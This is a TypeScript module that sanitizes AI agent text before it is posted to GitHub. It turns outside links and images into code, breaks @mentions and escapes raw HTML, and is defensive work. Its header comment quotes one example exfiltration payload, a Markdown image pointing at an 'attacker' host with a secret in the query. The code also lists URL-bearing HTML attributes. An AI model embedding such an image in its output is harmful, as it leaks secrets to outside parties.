/**
 * The one door every text we post to GitHub goes through (comments, pull
 * request bodies): agent output in it must not be able to send data out or
 * ping people.
 *
 * - Images and links to hosts other than the repository's GitHub host (and
 *   `allowed-domains`) become inline code: GitHub does not render them, so
 *   its image proxy never fetches `![x](https://attacker/?d=SECRET)` and
 *   nobody is one click from leaking. Covered: Markdown images and links,
 *   reference-style ones (their definitions too), `<autolinks>`, bare URLs
 *   GitHub links by itself, `data:` and other non-http schemes, and raw HTML
 *   whose attributes point elsewhere (`<img src>`, `<a href>`,
 *   `<source srcset>`, `<video poster>`, ...).
 * - `@user` and `@org/team` get a zero-width space after the `@`, as
 *   Dependabot does in the release notes it quotes: the text reads the same
 *   and copies almost the same, but GitHub sees no mention and notifies
 *   nobody. (Backticks would work too, but change how prose looks and do
 *   nothing inside raw HTML, which is not Markdown.) Logins our own template
 *   names on purpose (`keepMentions`, the requester) stay.
 * - Code spans and fenced or indented code are inert on GitHub and stay as
 *   they are, byte for byte.
 *
 * Sound because it is checked, not hoped: the text is parsed with a
 * CommonMark + GFM parser (micromark) and raw HTML with an HTML5 parser
 * (parse5), the unsafe parts are rewritten, and the result is parsed again
 * until nothing unsafe is left. A rewrite that could combine with its
 * surroundings into something new is caught by the next pass; if a few
 * passes do not settle, the whole text is posted as one code block.
 */
import type { Html, Nodes, Parent, Text } from "mdast";
import { applyEdits, childrenOf, definitionsOf, parseHtml, parseMarkdown, rangeOf, walkHtml, type Edit, type HtmlElement } from "../markdown.js";
import { hostAllowed, parseDomainRules, type DomainRule } from "../shared/domains.js";
import { inlineCode } from "../text.js";
import { COMMENT_LIMIT } from "./comment.js";
import { fenced } from "./summary.js";


export interface PostTextPolicy {
  /** The repository's GitHub (GITHUB_SERVER_URL, e.g. `https://github.com`): links and images there render. */
  serverUrl: string;
  /** `allowed-domains` (settings.run.network): links and images on these hosts render too. */
  allowedDomains?: readonly string[];
  /** Logins our own template mentions on purpose (the requester); everyone else is not pinged. */
  keepMentions?: readonly string[];
}

interface Compiled {
  base: URL;
  repoHost: string;
  rules: DomainRule[];
  keep: Set<string>;
}

const ZWSP = "\u200b";
const MAX_PASSES = 4;
/** The `@` of a mention as a source can spell it: literal, escaped, or a character reference. */
const AT_SIGN = /\\@|&#0*64;?|&#x0*40;?|&commat;|@/gi;
/** A mention in rendered text: `@login` or `@org/team`, not already broken by a zero-width space. */
const MENTION = /@([A-Za-z0-9][A-Za-z0-9-]*)(\/[A-Za-z0-9_-]+)?/g;
/** Attributes whose value is one or more URLs a browser (or GitHub's proxy) would load or follow. */
const URL_ATTRIBUTES = new Set(["src", "href", "poster", "background", "action", "formaction", "cite", "data", "longdesc", "lowsrc", "dynsrc", "ping", "usemap", "manifest", "codebase", "xlink:href", "srcset", "imagesrcset"]);
/** Containers whose `html` children are HTML blocks (flow), not inline tags. */
const FLOW_PARENTS = new Set(["root", "blockquote", "listItem", "footnoteDefinition"]);

function compile(p: PostTextPolicy): Compiled {
  const base = new URL(p.serverUrl.endsWith("/") ? p.serverUrl : `${p.serverUrl}/`);
  const rules: DomainRule[] = [];
  // One bad entry must not stop the post; the sandbox reports bad entries where they matter.
  for (const entry of p.allowedDomains ?? []) {
    try {
      rules.push(...parseDomainRules([entry]));
    } catch {
      /* not a host rule: allows nothing here */
    }
  }
  return { base, repoHost: base.host.toLowerCase(), rules, keep: new Set((p.keepMentions ?? []).map((l) => l.toLowerCase())) };
}

/** A link or image target that may render: relative (the repository's host), or http(s) to an allowed host. */
function urlAllowed(raw: string, c: Compiled): boolean {
  const s = raw.trim();
  if (!s) return true;
  let u: URL;
  try {
    u = new URL(s, c.base);
  } catch {
    return false;
  }
  if (u.protocol !== "http:" && u.protocol !== "https:") return false;
  if (u.host.toLowerCase() === c.repoHost) return true;
  const port = u.port ? Number(u.port) : u.protocol === "https:" ? 443 : 80;
  return hostAllowed(c.rules, u.hostname, port);
}

/** `srcset="a.png 1x, https://x/b.png 2x"`: every candidate URL. */
function srcsetUrls(value: string): string[] {
  return value
    .split(",")
    .map((c) => c.trim().split(/\s+/)[0] ?? "")
    .filter(Boolean);
}

function attributeUnsafe(name: string, value: string, c: Compiled): boolean {
  const n = name.toLowerCase();
  if (n === "srcset" || n === "imagesrcset") return srcsetUrls(value).some((u) => !urlAllowed(u, c));
  if (URL_ATTRIBUTES.has(n) || n.endsWith(":href")) return !urlAllowed(value, c);
  // Any other attribute that smuggles a URL (`style="background:url(//x)"`).
  return /url\s*\(|\/\/|data:/i.test(value) && [...value.matchAll(/(?:[a-z][a-z0-9+.-]*:)?\/\/[^\s"'()<>,]+|data:[^\s"'()<>,]*/gi)].some((m) => !urlAllowed(m[0], c));
}

function elementUnsafe(el: HtmlElement, c: Compiled): boolean {
  return el.attrs.some((a) => attributeUnsafe(a.prefix ? `${a.prefix}:${a.name}` : a.name, a.value, c));
}

/** Rendered text with a mention in it, or ending in `@` (a login could follow in the next node). */
function needsBreak(rendered: string, c: Compiled): boolean {
  if (rendered.endsWith("@")) return true;
  for (const m of rendered.matchAll(MENTION)) {
    if (m[2] || !c.keep.has(m[1]!.toLowerCase())) return true;
  }
  return false;
}

/**
 * Zero-width spaces after every `@` of `source` that a login could follow
 * (offsets relative to `source`). A kept login stays as written.
 */
function breakMentions(source: string, c: Compiled): number[] {
  const at: number[] = [];
  for (const m of source.matchAll(AT_SIGN)) {
    const after = m.index + m[0].length;
    const next = source[after];
    if (next === ZWSP || (next !== undefined && /\s/.test(next))) continue;
    const kept = /^([A-Za-z0-9][A-Za-z0-9-]*)(?![A-Za-z0-9/-])/.exec(source.slice(after));
    if (m[0] === "@" && kept && c.keep.has(kept[1]!.toLowerCase())) continue;
    at.push(after);
  }
  return at;
}

interface Scan {
  edits: Edit[];
  /** Something unsafe that no edit could fix: the caller falls back to a code block. */
  stuck: boolean;
}

/** URLs written anywhere in raw text: `scheme://host`, `//host`, `www.host`, `data:` (not those a zero-width space already broke). */
const URL_IN_TEXT = /(?:[a-z][a-z0-9+.-]*:)?\/\/(?!\u200b)[^\s"'()<>,`\\]+|\bwww\.(?!\u200b)[^\s"'()<>,`\\]+|\bdata:/gi;

function textHasOutsideUrl(text: string, c: Compiled): boolean {
  for (const m of text.matchAll(URL_IN_TEXT)) {
    const url = m[0].toLowerCase().startsWith("www.") ? `https://${m[0]}` : m[0];
    if (!urlAllowed(url, c)) return true;
  }
  return false;
}

/**
 * Raw HTML. An element that loads or links elsewhere, or an outside URL
 * anywhere in it (a comment or an attribute GitHub's renderer might read
 * differently from ours), makes the whole node inline code: inside an HTML
 * block a backslash or a code span would still be HTML. Mentions in an HTML
 * block are broken where they are.
 */
function scanHtml(node: Html, parent: Parent | undefined, source: string, c: Compiled, out: Scan): void {
  const r = rangeOf(node);
  if (!r) {
    out.stuck = true;
    return;
  }
  let unsafe = textHasOutsideUrl(node.value, c);
  if (!unsafe) walkHtml(parseHtml(node.value), (h) => void ("attrs" in h && elementUnsafe(h, c) && (unsafe = true)));
  const raw = source.slice(r.start, r.end);
  const mentions = !unsafe && raw === node.value && parent !== undefined && FLOW_PARENTS.has(parent.type) ? breakMentions(raw, c) : undefined;
  if (mentions) {
    for (const i of mentions) out.edits.push({ start: r.start + i, end: r.start + i, text: ZWSP });
    return;
  }
  if (unsafe || needsBreak(node.value, c)) out.edits.push({ ...r, text: inlineCode(node.value) });
}

/** Offsets of `ch` in `source` not already escaped by a backslash. */
function unescaped(source: string, ch: RegExp): number[] {
  const at: number[] = [];
  for (const m of source.matchAll(ch)) {
    let slashes = 0;
    while (source[m.index - 1 - slashes] === "\\") slashes++;
    if (slashes % 2 === 0) at.push(m.index);
  }
  return at;
}

/**
 * Plain text, as our parser sees it. Mentions are broken. Because GitHub's
 * parser (cmark-gfm) does not agree with ours on every corner (it reads
 * `<img src=//x/y>` as HTML, ours as text), text that another parser could
 * read as a tag or a link is escaped, which renders the same for both, and
 * outside URLs in it get a zero-width space so nothing links them.
 */
function scanText(node: Text, source: string, c: Compiled, out: Scan): void {
  const r = rangeOf(node);
  const v = node.value;
  // Already escaped (`\<`, `&lt;`) is fine: only literal characters of the source are escaped below.
  const tagLike = /<[A-Za-z!/?]/.test(v);
  const linkLike = /\]\s*[([:]/.test(v);
  const mention = needsBreak(v, c);
  const url = textHasOutsideUrl(v, c);
  if (!tagLike && !linkLike && !mention && !url) return;
  if (!r) {
    out.stuck = true;
    return;
  }
  const slice = source.slice(r.start, r.end);
  const insert = (i: number, text: string) => out.edits.push({ start: r.start + i, end: r.start + i, text });
  if (tagLike) for (const i of unescaped(slice, /<(?=[A-Za-z!/?])/g)) insert(i, "\\");
  if (linkLike) for (const i of unescaped(slice, /\[/g)) insert(i, "\\");
  if (mention) {
    const at = breakMentions(slice, c);
    if (!at.length) out.stuck = true;
    for (const i of at) insert(i, ZWSP);
  }
  if (url) {
    const at = [...slice.matchAll(/\/\/(?!\u200b)|www\.(?!\u200b)/gi)].map((m) => m.index + m[0].length);
    if (!at.length) out.stuck = true;
    for (const i of at) insert(i, ZWSP);
  }
}

/** What in `source` would render as an outside image or link, or ping someone. */
function scan(source: string, c: Compiled): Scan {
  const root = parseMarkdown(source);
  const defs = definitionsOf(root);
  const out: Scan = { edits: [], stuck: false };
  const asCode = (n: Nodes): void => {
    const r = rangeOf(n);
    if (r) out.edits.push({ ...r, text: inlineCode(source.slice(r.start, r.end)) });
    else out.stuck = true;
  };
  const walk = (n: Nodes, parent: Parent | undefined): void => {
    switch (n.type) {
      case "code":
      case "inlineCode":
        return;
      case "image":
      case "link":
      case "definition":
        if (!urlAllowed(n.url, c)) return asCode(n);
        if (n.type !== "link") return;
        break;
      case "imageReference":
      case "linkReference": {
        const d = defs.get(n.identifier);
        if (!d || !urlAllowed(d.url, c)) return asCode(n);
        if (n.type === "imageReference") return;
        break;
      }
      case "html":
        return scanHtml(n, parent, source, c, out);
      case "text":
        return scanText(n, source, c, out);
    }
    for (const child of childrenOf(n)) walk(child, n as Parent);
  };
  walk(root, undefined);
  return out;
}

function neutralizeOnce(markdown: string, c: Compiled): string {
  let text = markdown;
  for (let pass = 0; pass < MAX_PASSES; pass++) {
    const { edits, stuck } = scan(text, c);
    if (stuck) break;
    if (!edits.length) return text;
    text = applyEdits(text, edits);
  }
  // Did not settle: nothing in a code block renders, links, loads or pings.
  return fenced(markdown, "text");
}

/**
 * `markdown` as it may be posted: outside images and links shown as code,
 * mentions broken, code untouched; at most `maxLength` characters (the
 * input is shortened and neutralized again when the rewriting made it longer).
 */
export function neutralizeForGitHub(markdown: string, policy: PostTextPolicy, maxLength = COMMENT_LIMIT - 500): string {
  const c = compile(policy);
  let input = markdown;
  for (let attempt = 0; attempt < 3; attempt++) {
    const out = neutralizeOnce(input, c);
    if (out.length <= maxLength) return out;
    input = `${input.slice(0, Math.max(0, input.length - (out.length - maxLength) - 1_000))}\n\n… (truncated)`;
  }
  return fenced(markdown.slice(0, maxLength - 100), "text");
}
